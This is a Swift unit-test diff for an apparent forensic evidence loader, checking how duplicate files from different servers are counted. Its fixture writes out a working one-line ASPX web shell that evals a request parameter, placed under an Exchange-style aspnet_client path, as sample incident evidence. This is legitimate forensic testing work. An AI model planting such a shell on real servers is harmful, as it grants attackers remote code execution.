@@ -44,6 +44,24 @@ import Testing
         #expect(store.count == 1)
     }
 
+    /// One web shell dropped on two servers, each server's collection loaded on its own: the second is not a
+    /// duplicate of the first (same path and SHA-256, another server), and loading a server again still is.
+    @Test func identicalFilesOfTwoServersAreBothKept() throws {
+        let dir = Fixtures.tempDir()
+        for server in ["EXA", "EXB"] {
+            Fixtures.write("<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"x\"],\"unsafe\");%>",
+                           "\(server)/C/inetpub/wwwroot/aspnet_client/supp0rt.aspx", in: dir)
+        }
+        let store = EventStore()
+        _ = try EvidenceLoader().load(dir.appendingPathComponent("EXA").path, into: store)
+        let second = try EvidenceLoader().load(dir.appendingPathComponent("EXB").path, into: store)
+        #expect(second.duplicatesSkipped == 0)
+        #expect(store.files.map(\.server) == ["EXA", "EXB"])
+        let again = try EvidenceLoader().load(dir.appendingPathComponent("EXB").path, into: store)
+        #expect(again.duplicatesSkipped == 1)
+        #expect(store.files.count == 2)
+    }
+
     @Test func eventNumbersDoNotDependOnThreads() throws {
         let training = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
             .deletingLastPathComponent().deletingLastPathComponent().appendingPathComponent("help/training").path
